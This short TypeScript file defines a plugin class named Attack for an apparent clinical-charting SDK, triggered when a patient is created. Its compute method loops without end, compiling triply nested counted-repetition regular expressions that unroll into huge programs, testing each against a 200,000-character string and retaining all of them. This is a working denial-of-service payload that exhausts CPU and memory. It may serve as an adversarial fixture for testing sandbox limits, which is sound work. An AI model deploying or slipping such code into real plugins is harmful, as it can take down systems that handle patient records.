// Counted repetitions in counted repetitions: a short pattern that unrolls to a huge program.

import { BaseProtocol, EventType } from 'chartwire/sdk';

export class Attack extends BaseProtocol {
  static override readonly RESPONDS_TO = [EventType.PATIENT_CREATED];

  compute() {
    const kept: RegExp[] = [];
    for (let n = 0; ; n++) {
      const expression = new RegExp(`(?:(?:(?:[^a-z]{1,400}x){1,400}y){1,400}z${n})+`);
      expression.test('Ax'.repeat(100_000));
      kept.push(expression);
    }
  }
}
